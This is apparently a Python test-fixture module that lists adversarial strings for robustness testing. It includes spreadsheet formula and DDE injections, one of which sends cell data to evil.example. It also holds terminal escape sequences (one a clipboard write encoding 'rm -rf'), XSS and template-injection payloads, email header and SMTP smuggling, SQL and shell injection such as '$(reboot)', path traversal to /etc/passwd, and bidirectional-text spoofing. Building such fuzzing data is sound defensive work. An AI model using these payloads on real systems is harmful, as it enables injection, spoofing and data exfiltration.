"""Text that somebody writes to do harm, or that nobody thought of: what every column and every name is filled with.

`STRINGS` is name → text. `few` is a part of them with some of each kind.
"""

from __future__ import annotations

import itertools

ESC, CSI, OSC, ST, BEL = "\x1b", "\x9b", "\x1b]", "\x1b\\", "\x07"

_FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/x","pay")', "=1+1;2", "{=1+1}")
_FORMULAS_MORE = (
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "-2+3+cmd|' /C calc'!A0",
)
_BEFORE = (
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\x0b",
    "\x0c",
    "\xa0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "'",
    '"',
    '""',
    "`",
    "\u2028",
    "\x01",
    "\x85",
)
_WIDE = ("＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1+1", "﹢1", "﹣1", "﹫x")
_BETWEEN = (
    ";",
    "; ",
    ";;",
    ";\t",
    "\t",
    "|",
    "| ",
    "\n",
    "\r",
    "\r\n",
    "\x85",
    "\u2028",
    "\u2029",
    "\x0b",
    "\x0c",
    '";',
    ';"',
    ";'",
    "',",
    ";\u200b",
    ";\xa0",
)


def _numbered(kind: str, texts: object) -> dict[str, str]:
    return {f"{kind}-{number}": text for number, text in enumerate(texts)}  # type: ignore[arg-type]


KINDS: dict[str, dict[str, str]] = {
    "control": _numbered("control", [f"a{chr(n)}b" for n in (*range(0x20), *range(0x7F, 0xA0))]),
    "escape": _numbered(
        "escape",
        [
            f"{ESC}[31mred", f"{ESC}[2J{ESC}[H", f"{ESC}[1;1Hfirst", f"{ESC}[?1049h", f"{ESC}c", f"{CSI}31mred", f"{CSI}2J", f"{ESC}[8mhidden",
            f"{OSC}0;owned{BEL}", f"{OSC}2;owned{ST}", f"{OSC}8;;http://evil.example{ST}link{OSC}8;;{ST}", "\x9d0;owned\x9c",
            f"{OSC}52;c;cm0gLXJm{BEL}", f"{ESC}P$q\"p{ST}", f"{ESC}_Gf=100{ST}", "\x90payload\x9c", f"{ESC}[6n", f"{ESC}[5i", f"{ESC}#8",
            f"{ESC}[1A{ESC}[2KError: fine", f"{OSC}1337;File=:AAAA{BEL}", f"{OSC}9;4;1;50{BEL}", "a\bb\b\b\bowned", "\x0e\x0fshift",
            f"{ESC}(0lqqk{ESC}(B", f"{ESC}[38;2;255;0;0mtrue", f"{ESC}]P0ff0000", f"{ESC}[=1h", f"{ESC}>", "\x84\x85\x8d",
        ],
    ),
    "unseen": _numbered(
        "unseen",
        [f"in{chr(n)}side" for n in (
            0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E,
            0x2060, 0x2061, 0x2063, 0x2066, 0x2067, 0x2068, 0x2069, 0x206A, 0x206F, 0x2800, 0x3164, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB, 0xFFFD,
            0xFFFE, 0xFFFF, 0x1D173, 0xE0001, 0xE0041, 0xE0100, 0x1FFFE,
        )],
    ),
    "turned": _numbered(
        "turned", ["moc.elpmaxe\u202egpj.exe", "\u2067שלום\u2069 abc", "user\u202e\u2066nimda\u2069", "עברית", "مرحبا بالعالم", "abc \u200fdef\u200e"]
    ),
    "formula": _numbered("formula", [before + formula for before, formula in itertools.product(_BEFORE, _FORMULAS)]),
    "formula-more": _numbered("formula-more", [*_FORMULAS_MORE, *_WIDE, *(" " + each for each in _WIDE)]),
    "separated": _numbered("separated", [f"x{between}{formula}{after}" for between in _BETWEEN for formula, after in (("=cmd|' /C calc'!A0", ";y"), ("+1", ""), ("@x", "\ty"), ("＝1", ""))]),
    "workbook": _numbered(
        "workbook",
        [
            "_x0041_", "_x003D_1+1", "_x000D__x000A_", "_x0000_", "_x005F_x0041_", "_x0041_x0042_", "_xD800_", "_xFFFE_", "_X0041_", "_x41_",
            "<r><t>rich</t></r>", "<r></r>", "<r><rPr><b/></rPr><t>bold</t></r>", "<r></is></c><c r=\"A1\"><f>1+1</f></c><c><is><r></r>",
            "<r>&lt;</r>", "<is><t>x</t></is>", "</t></is></c>", "<f>1+1</f>", "]]>", "<![CDATA[x]]>", "<?xml version=\"1.0\"?>", "&amp;&#61;1+1", "&#x3D;1",
            "#REF!", "#N/A", "TRUE", "1E5", "0x1F", "00012", "1/2", "2024-01-02", "12:30", "50%", "internal:Sheet1!A1", "external:c:\\x.xlsx",
            "http://evil.example/a", "mailto:x@evil.example", "ftp://evil.example", "file:///etc/passwd",
        ],
    ),
    "markup": _numbered(
        "markup",
        [
            "<script>document.title='owned'</script>", "</script><script>alert(1)</script>", "<img src=x onerror=\"document.title='owned'\">",
            "<img src=\"http://evil.example/p.png\">", "\"><svg onload=alert(1)>", "'\"><b>", "<!-- ", "-->", "</table></body>", "<iframe src=javascript:alert(1)>",
            "<style>*{display:none}</style>", "<a href=\"javascript:alert(1)\">x</a>", "<base href=http://evil.example>", "&lt;script&gt;", "&quot;&gt;",
            "<meta http-equiv=refresh content=0;url=http://evil.example>", "javascript:alert(1)", "<link rel=stylesheet href=//evil.example/x.css>", "<math><mi xlink:href=x>",
            "{{ 7*7 }}", "{% for x in y %}", "{# x #}", "{{ config }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "[red]x[/red]", "[link=http://evil.example]x[/link]", "[/]", "%s%n%d", "{0}", "\\u003cscript\\u003e",
        ],
    ),
    "header": _numbered(
        "header",
        [
            "x\r\nBcc: all@evil.example", "x\nBcc: all@evil.example", "x\rBcc: all@evil.example", "x\r\n\r\nbody", "x\u2028Bcc: all@evil.example", "x\x85Bcc: a@evil.example", "x%0d%0aBcc: a@evil.example",
            "=?utf-8?q?x=0D=0ABcc:_all@evil.example?=", "=?utf-8?b?DQpCY2M6IGFAZXZpbC5leGFtcGxl?=", "=?iso-2022-jp?b?GyRC?=", "=?utf-8?q?" + "x" * 90 + "?=", "a@b.example, c@evil.example", "Name <x@evil.example>",
            "\"quoted\" <x@evil.example>", "(comment)", "group: a@evil.example;", "x\r\n.\r\nMAIL FROM:<x@evil.example>", "\r\n.\r\n", ".", "..", "From x", "--boundary--", "a\\b", "\"", "\\\"", "=3D=0D=0A",
        ],
    ),
    "separator": _numbered(
        "separator", [",", ",,,", ";", ";;", "\"", "\"\"", "\"\"\"", "a,b", "a;b", "a\tb", "a|b", "a\"b", "\",\"", "\";\"", "a\nb", "a\r\nb", "'", "''", "'=1", "a\\,b", "sep=;", "#TYPE x", "\\N", "NULL", "nan", "None", "-", "--"]
    ),
    "shell": _numbered("shell", ["'; DROP TABLE users; --", "x' OR '1'='1", "%_", "$(reboot)", "`reboot`", "; reboot", "| tee x", "../../etc/passwd", "..\\..\\x", "~root", "-rf", "--help", "@file", "C:\\CON", "a/b", "\x00/etc", "*", "?", "!x", "\\"]),
    "letters": _numbered(
        "letters",
        [
            "Zoë", "Zoe\u0308", "李雷", "日本語テキスト", "Ὀδυσσεύς", "İstanbul ışık", "ẞtraße", "ﬁﬂ ligatures", "👩‍💻", "🏳️‍🌈", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "👨‍👩‍👧‍👦", "𝕏𝖞𝟙", "e" + "\u0301" * 200,
            "Z" + "\u035c\u0361\u0317" * 30, "क्षत्रिय", "ไทย", "አማርኛ", "ｆｕｌｌｗｉｄｔｈ", "а" + "dmin (Cyrillic a)", "\u0000\u0301", "\u0301alone", "\U0010ffff", "\ue000private", "½²³", "\xa0", "\u3000x\u3000", "á́́", "ꙮ", "﷽",
        ],
    ),
    "long": _numbered("long", ["A" * 256, "A" * 1_000, "ä" * 33_000, "A" * 140_000, ("word " * 30_000), "👩‍💻" * 12_000, "=" + "1+" * 60_000, "x;" * 70_000, "<b>" * 40_000, "e" + "\u0301" * 120_000, "\n" * 5_000 + "x"]),
    "link": _numbered("link", ["see http://evil.example", "www.evil.example", "HTTPS://evil.example/pay", "evil.example", "http:/\u200b/evil.example", "hxxp://x", "tel:+123", "//evil.example", "http\uff1a//evil.example", "a@evil.example"]),
    "reference": _numbered("reference", ["BCDFGHJK", "bcdf-ghjk", "2345 6789", "BCDFGHJKL"]),
}  # fmt: skip
"""Kind → its strings, by name."""

STRINGS: dict[str, str] = {name: text for texts in KINDS.values() for name, text in texts.items()}

HALVES = ("\ud800", "a\udfffb", "\ud83d", "\udce4.csv")
"""Halves of characters, which no file and no database can hold; names of files and values of programs may."""


def few() -> dict[str, str]:
    """Some strings of every kind, spread over it."""
    return {name: texts[name] for texts in KINDS.values() for name in list(texts)[:: max(1, -(-len(texts) // 4))]}
